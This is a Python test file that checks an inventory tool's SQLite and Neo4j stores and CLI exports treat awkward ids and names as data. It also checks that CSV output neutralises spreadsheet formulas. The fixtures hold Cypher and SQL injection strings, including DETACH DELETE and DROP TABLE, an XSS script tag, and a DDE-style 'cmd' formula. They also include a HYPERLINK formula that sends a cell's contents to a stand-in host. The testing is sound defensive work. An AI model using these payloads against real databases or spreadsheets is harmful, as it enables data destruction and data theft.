"""Injection: ids and names are data, never query text or spreadsheet formulas — on both stores.

The clean fixture is rewritten cell by cell so that a customer, two sites, a room, a cable and a
cable section carry ids and names made of quotes, backticks, braces, Cypher and SQL keywords,
backslashes and Chinese text; a site name and a site id look like spreadsheet formulas. Then:

* the import accepts them and the store gives them back exactly (get_node, find_nodes);
* ``inventory check ID`` finds a site by such an id (the id travels as a query parameter);
* ``inventory audit --format json`` and ``inventory export`` (GeoJSON) give them back
  unchanged;
* ``inventory audit --format csv`` gives them back unchanged except that a cell starting
  with ``=``, ``+``, ``-``, ``@`` (a formula to Excel or LibreOffice) gets a leading ``'``;
* nothing else in the store was touched (the digest equals that of the same content
  imported with plain ids, renamed back), so no value was ever run as a statement.

Both stores were reviewed (inventory/graph/sqlite_store.py, neo4j_store.py): values are
always bound parameters (``?`` / ``$name``); the only names formatted into SQL or Cypher are
labels, relationship types and property names, each checked against the model's allow-list
first (store.check_label / check_rel_type / check_prop). The last test checks that guard by
behaviour: a property name or label made of Cypher or SQL is refused before any query runs.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from importers import import_paths
from inventory.cli import cli
from inventory.errors import ValidationError
from inventory.graph.store import Node, Rel
from inventory.output import safe_csv_cell

CLEAN = Path(__file__).resolve().parent / "data" / "clean"

RENAME = {
    # id in the clean fixture -> awkward id
    "C-001": "客户'C\"001`{id: 1}) MATCH (n) DETACH DELETE n //",
    "S-001": "S-001' OR '1'='1\\ }}{{ RETURN 1 UNION SELECT * FROM nodes --",
    "S-002": "-S002+cmd|' /C calc'!A0 站点",
    "R-ACC-01": "机房`) CALL db.clearQueryCaches() //",
    "CB-T-01": "光缆\"}]->(x) SET x.pwned = true",
    "SEC-001": "段'); DROP TABLE rels; --",
}
NAMES = {
    # name in the clean fixture -> awkward name
    "博尔塔拉蒙古自治州人民医院": "医院 $name ${x} {{7*7}} <script>alert(1)</script>",
    "州人民医院门诊楼": '=HYPERLINK("http://example.invalid/?"&A1,"州医院门诊楼")',
    "博乐一中本部": "@SUM(1+1) 一中 'quoted' \"double\" `back`",
}


def _rewrite(folder: Path) -> Path:
    folder.mkdir()
    for path in CLEAN.glob("*.csv"):
        with path.open(encoding="utf-8", newline="") as f:
            rows = list(csv.reader(f))
        out = []
        for row in rows:
            new = []
            for cell in row:
                if cell in RENAME:
                    cell = RENAME[cell]
                elif cell.startswith("Site:") and cell[5:] in RENAME:
                    cell = "Site:" + RENAME[cell[5:]]
                elif ";" in cell and all(part in RENAME for part in cell.split(";")):
                    cell = ";".join(RENAME[part] for part in cell.split(";"))
                new.append(NAMES.get(cell, cell))
            out.append(new)
        buffer = io.StringIO()
        csv.writer(buffer).writerows(out)
        (folder / path.name).write_text(buffer.getvalue(), encoding="utf-8")
    return folder


def _run(args: list[str], env: dict[str, str]):
    result = CliRunner().invoke(cli, args, env=env)
    assert result.exit_code == 0, result.output
    return result


@pytest.fixture
def awkward_store(store, tmp_path):
    report = import_paths(store, [_rewrite(tmp_path / "awkward")])
    assert report.ok, [str(e) for e in report.errors]
    return store


def test_awkward_ids_and_names_round_trip_through_the_store(awkward_store):
    store = awkward_store
    customer = store.get_node("Customer", RENAME["C-001"])
    assert customer is not None and customer.props["name"] == NAMES["博尔塔拉蒙古自治州人民医院"]
    site = store.get_node("Site", RENAME["S-001"])
    assert site.props["name"] == NAMES["州人民医院门诊楼"]
    assert site.props["customer_id"] == RENAME["C-001"]
    assert [n.id for n in store.find_nodes("Site", customer_id=RENAME["C-001"])] \
        == sorted(n.id for n in store.iter_nodes("Site")
                  if n.props["customer_id"] == RENAME["C-001"])
    section = store.get_rel("SEGMENT", RENAME["SEC-001"])
    assert section.props["cable_id"] == RENAME["CB-T-01"]
    assert section.start == ("Room", "R-AGG-01") and section.end == ("Room", RENAME["R-ACC-01"])
    assert [r.id for r in store.find_rels("SEGMENT", cable_id=RENAME["CB-T-01"])]
    # every value was data: the labels and counts are those of the plain fixture
    assert store.count_nodes()["Customer"] == 4 and store.count_rels()["SEGMENT"] == 8
    assert not any("pwned" in n.props for n in store.iter_nodes("Point"))


def test_awkward_ids_and_names_round_trip_through_cli_exports(awkward_store, store_env):
    env = store_env
    check = json.loads(_run(["check", RENAME["S-001"], "--format", "json"], env).stdout)
    assert check["site_id"] == RENAME["S-001"]

    audit_json = json.loads(_run(["audit", "--format", "json"], env).stdout)
    by_id = {row["site_id"]: row for row in audit_json["sites"]}
    assert by_id[RENAME["S-001"]]["site_name"] == NAMES["州人民医院门诊楼"]
    assert by_id[RENAME["S-001"]]["customer_id"] == RENAME["C-001"]
    assert by_id[RENAME["S-002"]]["site_name"] == NAMES["博乐一中本部"]

    rows = list(csv.DictReader(io.StringIO(_run(["audit", "--format", "csv"], env).stdout)))
    by_id = {row["site_id"]: row for row in rows}
    # not a formula: unchanged
    assert by_id[RENAME["S-001"]]["customer_id"] == RENAME["C-001"]
    # formulas: neutralised with a leading ', the rest unchanged
    assert by_id[RENAME["S-001"]]["site_name"] == "'" + NAMES["州人民医院门诊楼"]
    assert "'" + RENAME["S-002"] in by_id
    assert by_id["'" + RENAME["S-002"]]["site_name"] == "'" + NAMES["博乐一中本部"]
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row

    geojson = json.loads(_run(["export", "--format", "geojson"], env).stdout)
    props = {(f["properties"].get("label") or f["properties"].get("type"),
              f["properties"]["id"]): f["properties"] for f in geojson["features"]}
    assert props[("Site", RENAME["S-001"])]["name"] == NAMES["州人民医院门诊楼"]
    assert props[("Site", RENAME["S-001"])]["customer_id"] == RENAME["C-001"]
    assert props[("Site", RENAME["S-002"])]["name"] == NAMES["博乐一中本部"]
    assert ("Room", RENAME["R-ACC-01"]) in props
    sections = [p for p in props.values() if p["id"] == RENAME["SEC-001"]]
    assert sections and sections[0]["cable_id"] == RENAME["CB-T-01"], list(props)[-5:]


def test_nothing_but_the_renamed_values_differ(awkward_store, sqlite_store, tmp_path):
    """Renaming back gives exactly the store of the plain fixture: no value ran as code."""
    assert import_paths(sqlite_store, [CLEAN]).ok
    back = {v: k for k, v in {**RENAME, **NAMES}.items()}

    def plain(value):
        if isinstance(value, str):  # derived ids embed ids: HAS_SITE:<site id>
            for awkward in sorted(back, key=len, reverse=True):
                value = value.replace(awkward, back[awkward])
            return value
        if isinstance(value, list):
            return [plain(v) for v in value]
        return value

    def dump(store):
        from inventory.model import LABELS, REL_TYPES
        nodes = sorted((label, plain(n.id), json.dumps({k: plain(v) for k, v in n.props.items()},
                                                       sort_keys=True, ensure_ascii=False))
                       for label in LABELS for n in store.iter_nodes(label))
        rels = sorted((t, plain(r.id), plain(r.start[1]), plain(r.end[1]),
                       json.dumps({k: plain(v) for k, v in r.props.items()
                                   if k not in ("geometry", "length_m", "distance_km")},
                                  sort_keys=True, ensure_ascii=False))
                      for t in REL_TYPES for r in store.iter_rels(t))
        return nodes, rels

    assert dump(awkward_store) == dump(sqlite_store)


@pytest.mark.parametrize("name", ["name`) DETACH DELETE n //", "name = 1 OR 1=1 --",
                                  "$.name') OR 1=1 --", "x}]->() MATCH (n"])
def test_property_names_and_labels_are_never_query_text(store, name):
    assert import_paths(store, [CLEAN]).ok
    before = store.digest()
    with pytest.raises(ValidationError):
        store.find_nodes("Site", **{name: "x"})
    with pytest.raises(ValidationError):
        store.find_rels("SEGMENT", **{name: "x"})
    with pytest.raises(ValidationError):
        store.get_nodes(f"Site`) DETACH DELETE n //{name}", ["S-001"])
    with pytest.raises(ValidationError):
        list(store.iter_rels("SEGMENT]->() DETACH DELETE n //"))
    # a write names the properties it creates (Neo4j: in the statement's text)
    site = store.get_nodes("Site", ["S-001"])["S-001"]
    with pytest.raises(ValidationError):
        store.upsert([Node("Site", "S-NEW", {"name": "new", name: "x"})])
    with pytest.raises(ValidationError):  # refused as an update too, before anything is sent
        store.upsert([Node("Site", "S-NEW", {"name": "new"}),
                      Node("Site", site.id, {**site.props, name: "x"})])
    section = next(store.iter_rels("SEGMENT"))
    with pytest.raises(ValidationError):
        store.upsert(rels=[Rel("SEGMENT", "SEG-NEW", section.start, section.end,
                               {**section.props, name: "x"})])
    assert store.digest() == before


def test_safe_csv_cell_neutralises_every_formula_start():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert safe_csv_cell(start + "1+1").startswith("'" + start)
    assert safe_csv_cell("S-001") == "S-001" and safe_csv_cell("光交-01") == "光交-01"
    assert safe_csv_cell(-3.5) == "'-3.5"  # a negative number is shown as text, not computed
